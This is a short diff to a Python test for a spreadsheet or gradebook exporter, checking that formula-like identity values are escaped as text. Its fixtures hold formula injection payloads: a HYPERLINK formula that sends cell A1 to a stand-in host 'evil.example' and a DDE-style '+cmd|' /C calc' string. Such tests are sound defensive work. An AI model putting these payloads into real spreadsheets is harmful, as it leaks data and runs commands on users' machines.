@@ -151,7 +151,7 @@ def test_formula_like_identities_are_written_as_text(
     row = next(r for r in rows[1:] if r[0] != "Points Possible" and "HYPERLINK" in "".join(r))
     cells = [c for r in rows[1:] for c in r[:identity]]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
-    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")" in row
+    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"click")' in row
     assert "'@SUM(1+1)" in row
     assert layout is exports.CANVAS or "'+cmd|' /C calc'!A0@x.org" in row
     assert row[-1] == "2"
